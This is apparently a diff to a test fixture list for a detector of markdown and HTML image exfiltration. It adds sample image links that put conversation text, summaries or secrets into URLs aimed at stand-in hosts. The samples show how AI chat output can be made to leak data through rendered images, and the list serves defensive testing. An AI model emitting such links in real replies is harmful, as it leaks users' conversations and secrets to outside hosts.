@@ -30,6 +30,8 @@ FOUND = [
     ("![x](", f"HTTPS:/cdn.example.net/{SAID}.png", ")", "markdown-image"),
     ("![x](", "https://cdn.example.net/?a=", "{conversation})", "markdown-image"),
     ("![x](", "https://cdn.example.net/?q=", "[BASE64_DATA])", "markdown-image"),
+    ("![x](", "https://cdn.example.net/", "{{summary}}.png)", "markdown-image"),
+    ("![x](", "https://cdn.example.net/i/$", "{secret})", "markdown-image"),
     ("![x](", "https://203.0.113.9/i.png?q=how+are+you+my+friend", ")", "markdown-image"),
     ('<img width=1 src="', "https://cdn.example.net/?u=ada%40mail.example.org", '">', "html-image"),
     ("<iframe src = '", f"https://cdn.example.net/?q={SAID}", "'>", "html-image"),
